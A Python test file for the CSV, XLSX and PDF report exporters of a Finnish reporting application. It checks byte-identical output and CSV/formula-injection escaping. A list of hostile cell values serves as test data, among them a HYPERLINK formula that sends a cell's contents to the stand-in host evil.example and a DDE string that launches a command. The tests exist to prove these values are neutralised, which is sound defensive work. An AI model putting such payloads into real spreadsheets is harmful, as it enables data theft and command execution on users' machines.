"""The export files: the same report gives the same bytes; a different generation time is the only change."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook
from pypdf import PdfReader

from koonto.reporting.domain.report import Table
from koonto.reporting.exports.csv import build_csv
from koonto.reporting.exports.pdf import build_pdf
from koonto.reporting.exports.xlsx import build_xlsx

TABLES = [
    Table("yhteenveto", "Yhteenveto", ["Mittari", "Arvo"], [["Ideoita vastaanotettu", 7], ["Myönnetty, €", 53000]],
          chart_column=None),
    Table("neuvonta", "Neuvonta lajeittain", ["Laji", "Neuvontakertoja", "Tunteja"],
          [["Puhelin", 2, 1.2], ["Tapaaminen", 3, 3.2]]),
    Table("lapimenoajat", "Läpimenoajat (työpäivää)", ["Mittari", "Tapauksia", "Mediaani", "90. persentiili"],
          [["Ideasta ensimmäiseen yhteydenottoon", 0, None, None]], chart_column=2),
]
META = [("Kausi", "1.1.2026–31.3.2026"), ("Luotu", "29.11.2026 klo 14.30")]
AT = datetime(2026, 11, 29, 12, 30, tzinfo=UTC)


def test_xlsx_is_byte_for_byte_the_same_for_the_same_report_and_time() -> None:
    first = build_xlsx("Raportti", META, TABLES, AT)
    assert first == build_xlsx("Raportti", META, TABLES, AT)
    assert first != build_xlsx("Raportti", META, TABLES, datetime(2026, 11, 30, tzinfo=UTC))
    book = load_workbook(io.BytesIO(first))
    assert book.sheetnames == ["Raportti", "Yhteenveto", "Neuvonta lajeittain", "Läpimenoajat (työpäivää)"]
    assert list(book["Neuvonta lajeittain"].values)[1:4] == [
        ("Laji", "Neuvontakertoja", "Tunteja"), ("Puhelin", 2, 1.2), ("Tapaaminen", 3, 3.2)
    ]
    assert book.properties.created == datetime(2026, 11, 29, 12, 30)


def test_pdf_is_the_same_for_the_same_report_and_shows_figures_and_charts() -> None:
    pdf = build_pdf("Koonto: raportti", META, TABLES)
    assert pdf.startswith(b"%PDF") and pdf == build_pdf("Koonto: raportti", META, TABLES)
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages).replace("\xa0", " ")
    assert re.search(r"Myönnetty, €\s+53 000\b", text) and re.search(r"Tapaaminen\s+3\s+3,2\b", text)
    assert "Kaavio: Neuvontakertoja" in text  # the chart of the sessions table
    assert "Kaavio: Mediaani" not in text  # nothing to draw when there is no figure


def test_csv_has_every_section_as_a_block() -> None:
    text = build_csv(META, TABLES).decode("utf-8")
    assert text.startswith("\ufeffKausi;1.1.2026–31.3.2026")
    assert "# Neuvonta lajeittain\r\nLaji;Neuvontakertoja;Tunteja\r\nPuhelin;2;1.2\r\n" in text
    assert "Ideasta ensimmäiseen yhteydenottoon;0;;\r\n" in text


EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+358401234567", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\n=1+1"]
EVIL_TABLES = [
    Table("hakemukset", "Hakemukset rahoitushauittain", ["Rahoitushaku", "Hakemuksia", "Haettu, €"],
          [[name, -3, -1500.5] for name in EVIL]),
    Table("ideat_kunnittain", "=Kunnat", ["@Kunta", "Ideoita"], [["=cmd|' /C calc'!A0", 2]], note="-huom"),
]
EVIL_META = [("Kunta", "=1+2"), ("+Luotu", "29.11.2026 klo 14.30")]


def test_csv_text_cells_that_look_like_formulas_get_a_quote_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(build_csv(EVIL_META, EVIL_TABLES).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert [row for row in rows if row[1:] == ["-3", "-1500.5"]] == [["'" + name, "-3", "-1500.5"] for name in EVIL]
    assert ["# =Kunnat"] in rows and ["'@Kunta", "Ideoita"] in rows and ["'=cmd|' /C calc'!A0", "2"] in rows
    assert rows[0] == ["Kunta", "'=1+2"] and rows[1] == ["'+Luotu", "29.11.2026 klo 14.30"]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r", "\n")]
    assert not [cell for cell in cells if cell.startswith("-") and cell not in ("-3", "-1500.5")]


def test_xlsx_stores_formula_like_texts_as_quoted_strings_never_as_formulas() -> None:
    data = build_xlsx("=Raportti", EVIL_META, EVIL_TABLES, AT)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
    book = load_workbook(io.BytesIO(data))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    calls = list(book["Hakemukset rahoitushauittain"].iter_rows(min_row=3, values_only=True))
    # the text intact after the quote (XML reads a carriage return back as a line feed)
    assert calls == [("'" + name.replace("\r", "\n"), -3, -1500.5) for name in EVIL]
    numbers = [c for c in cells if not isinstance(c.value, str)]
    assert numbers and {c.data_type for c in numbers} == {"n"}
    assert list(book["Raportti"].values)[:3] == [
        ("'=Raportti", None), ("Kunta", "'=1+2"), ("'+Luotu", "29.11.2026 klo 14.30")
    ]
    assert list(book["=Kunnat"].values)[:3] == [
        ("'=Kunnat", None), ("'@Kunta", "Ideoita"), ("'=cmd|' /C calc'!A0", 2)
    ]
